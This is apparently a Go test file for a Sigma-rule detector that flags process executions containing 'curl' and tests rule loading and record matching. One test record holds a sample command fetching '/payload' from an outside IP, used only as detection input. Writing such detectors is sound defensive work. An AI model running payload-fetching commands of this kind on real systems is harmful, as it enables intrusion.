package sigma

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/haolipeng/agentsight/correlate"
)

const curlRule = `title: Curl To External Host
id: 6b0b75b2-5a94-4f65-b4a9-8c3a5b8d4c11
status: test
logsource:
    category: process_creation
detection:
    selection:
        CommandLine|contains: curl
    condition: selection
level: medium
`

func writeRules(t *testing.T, rules map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, content := range rules {
		require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(content), 0644))
	}
	return dir
}

func TestDetectorLoadsRules(t *testing.T) {
	dir := writeRules(t, map[string]string{
		"curl.yml":   curlRule,
		"notes.txt":  "not a rule",
		"broken.yml": "detection: [unparseable",
	})

	d, err := NewDetector(dir)
	require.NoError(t, err)
	// The broken rule is skipped, not fatal.
	assert.Equal(t, 1, d.RuleCount())
}

func TestDetectorMatchesExecRecords(t *testing.T) {
	dir := writeRules(t, map[string]string{"curl.yml": curlRule})
	d, err := NewDetector(dir)
	require.NoError(t, err)

	require.NoError(t, d.Emit(correlate.ExecRecord{
		Event:       correlate.EventExec,
		Comm:        "curl",
		PID:         100,
		FullCommand: "curl http://198.51.100.7/payload",
	}))
	assert.Equal(t, 1, d.MatchCount())

	require.NoError(t, d.Emit(correlate.ExecRecord{
		Event:       correlate.EventExec,
		Comm:        "ls",
		PID:         101,
		FullCommand: "ls -l",
	}))
	assert.Equal(t, 1, d.MatchCount())
}

func TestDetectorIgnoresOtherRecordKinds(t *testing.T) {
	dir := writeRules(t, map[string]string{"curl.yml": curlRule})
	d, err := NewDetector(dir)
	require.NoError(t, err)

	require.NoError(t, d.Emit(correlate.FileOpenRecord{
		Event:    correlate.EventFileOpen,
		Filepath: "/usr/bin/curl",
	}))
	assert.Equal(t, 0, d.MatchCount())
}

func TestDetectorMissingDirectory(t *testing.T) {
	_, err := NewDetector("/nonexistent/rules")
	assert.Error(t, err)
}
